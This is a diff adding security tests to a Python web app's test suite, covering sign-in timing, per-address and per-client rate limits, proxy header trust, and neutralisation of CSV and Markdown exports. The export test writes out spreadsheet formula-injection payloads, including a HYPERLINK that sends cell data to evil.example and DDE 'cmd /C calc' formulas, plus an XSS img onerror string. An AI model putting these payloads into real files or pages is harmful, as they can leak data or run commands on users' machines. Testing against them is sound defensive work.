@@ -9,7 +9,11 @@ and a doubled ``charset`` in the export's Content-Type.
 
 from __future__ import annotations
 
+import asyncio
+import csv
+import io
 import re
+import statistics
 import threading
 import time
 from collections.abc import Callable, Iterator
@@ -23,11 +27,15 @@ import pytest
 import waitress
 from flask import Flask
 from sqlalchemy import func, select
+from waitress import wasyncore
 
 from monitor.app import App
-from monitor.web import create_app
+from monitor.web import create_app, shutdown, waitress_options
 from storage.base import utcnow
-from storage.models import EditorAction, EditorSession
+from storage.ingest import ingest_records
+from storage.models import EditorAction, EditorSession, Paper
+from storage.review import set_status
+from tests.records import make_record
 from tests.smtp_server import LoopbackSMTP
 from tests.test_web import EDITOR, seed, write_config
 
@@ -66,15 +74,30 @@ def make_app(
 
 @contextmanager
 def served(flask: Flask) -> Iterator[str]:
-    """Serve ``flask`` with waitress on a free loopback port; yield its base URL."""
-    server: Any = waitress.create_server(flask, host="127.0.0.1", port=0, threads=4)
-    thread = threading.Thread(target=server.run, daemon=True)
+    """Serve ``flask`` with waitress on a free loopback port; yield its base URL.
+
+    waitress's own ``run()`` may be in ``select()`` on the sockets when ``close()``
+    shuts them from another thread (EBADF in the server thread); this loop polls
+    in short turns and stops between two, so the sockets close only after it ends.
+    """
+    options = waitress_options(flask.config["SCIMON_APP"].settings)  # as `scimon serve`
+    server: Any = waitress.create_server(flask, host="127.0.0.1", port=0, threads=4, **options)
+    stop = threading.Event()
+
+    def run() -> None:
+        while not stop.is_set():
+            wasyncore.loop(timeout=0.05, map=server._map, count=1)
+
+    thread = threading.Thread(target=run, daemon=True)
     thread.start()
     try:
         yield f"http://127.0.0.1:{server.effective_port}"
     finally:
+        stop.set()
+        thread.join(10)
         server.task_dispatcher.shutdown()
         server.close()
+        shutdown(flask)
 
 
 @pytest.fixture
@@ -255,3 +278,176 @@ def test_status_changes_are_recorded_under_the_sessions_editor(
         )
         assert posted.status_code == 302
     assert actions_by(scimon, OTHER) == 1 and actions_by(scimon, EDITOR) == 0
+
+
+# -- 5. sign-in timing and rate limits --------------------------------------------------------
+
+
+def test_sign_in_takes_as_long_for_an_editor_as_for_anyone(
+    database_url: str, tmp_path: Path, smtp: LoopbackSMTP
+) -> None:
+    """The probe measured ~72 ms for an editor (mail sent in the request) against ~2 ms."""
+    handler: Any = smtp._controller.handler  # type: ignore[union-attr]
+    deliver = handler.handle_DATA
+
+    async def slow_data(*args: Any) -> str:
+        await asyncio.sleep(0.1)  # a relay that takes its time
+        return str(await deliver(*args))
+
+    handler.handle_DATA = slow_data
+    scimon = make_app(
+        database_url,
+        tmp_path,
+        smtp,
+        web="signin_per_client = 1000\nsignin_per_address = 1000",
+    )
+    seed(scimon)
+    flask = create_app(scimon, testing=True)
+    timings: dict[str, list[float]] = {EDITOR: [], STRANGER: []}
+    try:
+        with served(flask) as url, client(url) as http:
+            token = csrf_of(http.get("/signin").text)
+            for _ in range(3):  # warm up both paths
+                for address in timings:
+                    http.post("/signin", data={"email": address, "csrf_token": token})
+            for _ in range(20):
+                for address, times in timings.items():
+                    start = time.perf_counter()
+                    response = http.post("/signin", data={"email": address, "csrf_token": token})
+                    times.append(time.perf_counter() - start)
+                    assert response.status_code == 200
+            editor, stranger = (statistics.median(t) * 1000 for t in timings.values())
+            assert abs(editor - stranger) < 10, (editor, stranger)
+            assert editor < 90, editor  # nobody waits for the relay's 100 ms
+            # and the mail still arrives, every one of them, and none for the stranger
+            wait_for(lambda: len(smtp.to(EDITOR)) == 23, timeout=30)
+            assert smtp.to(STRANGER) == []
+    finally:
+        scimon.close()
+
+
+def test_sign_in_requests_are_rate_limited_per_address(
+    database_url: str, tmp_path: Path, smtp: LoopbackSMTP
+) -> None:
+    scimon = make_app(
+        database_url, tmp_path, smtp, web="signin_per_client = 100\nsignin_per_address = 3"
+    )
+    try:
+        with served(create_app(scimon, testing=True)) as url, client(url) as http:
+            for address in (EDITOR, STRANGER):  # the same limit for both: no tell
+                codes = [ask_for_link(http, address).status_code for _ in range(3)]
+                assert codes == [200, 200, 200]
+                refused = ask_for_link(http, address)
+                assert refused.status_code == 429
+                assert refused.headers["content-type"].startswith("text/plain")
+                assert "Too many sign-in requests" in refused.text
+                assert int(refused.headers["retry-after"]) > 0
+            # the address's case or spaces do not make it another address
+            assert ask_for_link(http, f"  {EDITOR.upper()} ").status_code == 429
+            assert ask_for_link(http, OTHER).status_code == 200
+            wait_for(lambda: len(smtp.to(OTHER)) == 1)
+        assert len(smtp.to(EDITOR)) == 3  # the refused requests sent nothing
+    finally:
+        scimon.close()
+
+
+def test_sign_in_requests_are_rate_limited_per_client(
+    database_url: str, tmp_path: Path, smtp: LoopbackSMTP
+) -> None:
+    scimon = make_app(
+        database_url, tmp_path, smtp, web="signin_per_client = 4\nsignin_per_address = 100"
+    )
+    try:
+        with served(create_app(scimon, testing=True)) as url, client(url) as http:
+            codes = [ask_for_link(http, f"x{i}@example.org").status_code for i in range(5)]
+            assert codes == [200, 200, 200, 200, 429]
+            assert ask_for_link(http, EDITOR).status_code == 429
+            # a proxy's X-Forwarded-For is not trusted unless configured
+            forged = http.post(
+                "/signin",
+                data={"email": EDITOR, "csrf_token": csrf_of(http.get("/signin").text)},
+                headers={"X-Forwarded-For": "203.0.113.9"},
+            )
+            assert forged.status_code == 429
+    finally:
+        scimon.close()
+
+
+def test_behind_a_trusted_proxy_each_client_has_its_own_limit(
+    database_url: str, tmp_path: Path, smtp: LoopbackSMTP
+) -> None:
+    scimon = make_app(
+        database_url,
+        tmp_path,
+        smtp,
+        web="signin_per_client = 2\nsignin_per_address = 100\ntrusted_proxies = 1",
+    )
+    try:
+        with served(create_app(scimon, testing=True)) as url, client(url) as http:
+            token = csrf_of(http.get("/signin").text)
+
+            def post(client_ip: str, n: int) -> int:
+                return http.post(
+                    "/signin",
+                    data={"email": f"x{n}@example.org", "csrf_token": token},
+                    headers={"X-Forwarded-For": f"198.51.100.77, {client_ip}"},
+                ).status_code
+
+            assert [post("203.0.113.1", n) for n in range(3)] == [200, 200, 429]
+            assert [post("203.0.113.2", n) for n in range(3)] == [200, 200, 429]
+    finally:
+        scimon.close()
+
+
+# -- 4 and 10. exports --------------------------------------------------------------------------
+
+ATTACKS = {
+    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click for the full text")',
+    "journal": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "abstract": "+cmd|' /C calc'!A0\nCONCLUSIONS: -2+3+cmd|' /C notepad'!A0",
+}
+
+
+def test_exports_over_http_are_neutralised_with_one_charset(
+    base: str, smtp: LoopbackSMTP, scimon: App
+) -> None:
+    ingest_records(
+        scimon.sessions,
+        [
+            make_record(
+                pmid="950",
+                source_id="950",
+                dois=("10.1000/evil.950",),
+                title=ATTACKS["title"],
+                journal=ATTACKS["journal"],
+                abstract=ATTACKS["abstract"] + " <img src=x onerror=alert(1)>",
+            )
+        ],
+    )
+    with scimon.sessions() as db, db.begin():
+        paper_id = db.scalar(select(Paper.id).where(Paper.pmid == "950"))
+        assert paper_id is not None
+        set_status(db, paper_id, "to_summarize", EDITOR)
+    with client(base) as http:
+        sign_in(http, smtp)
+        expected = {
+            "csv": "text/csv; charset=utf-8",
+            "md": "text/markdown; charset=utf-8",
+            "json": "application/json",
+        }
+        for fmt, content_type in expected.items():
+            response = http.get(f"/export?format={fmt}&status=to_summarize")
+            assert response.status_code == 200
+            assert response.headers["content-type"] == content_type, fmt
+            assert response.headers["content-type"].count("charset") <= 1
+        rows = list(csv.DictReader(io.StringIO(http.get("/export?format=csv").text)))
+        (row,) = rows
+        assert row["title"] == "'" + ATTACKS["title"]
+        assert row["journal"] == "'" + ATTACKS["journal"]
+        assert row["abstract"] == "'" + ATTACKS["abstract"] + " <img src=x onerror=alert(1)>"
+        assert row["conclusion"] == "'-2+3+cmd|' /C notepad'!A0 <img src=x onerror=alert(1)>"
+        md = http.get("/export?format=md").text
+        assert "<img" not in md and "&lt;img src=x onerror=alert(1)&gt;" in md
+        # JSON is data for programs: the values are what was published, unaltered
+        (data,) = http.get("/export?format=json").json()
+        assert data["title"] == ATTACKS["title"]
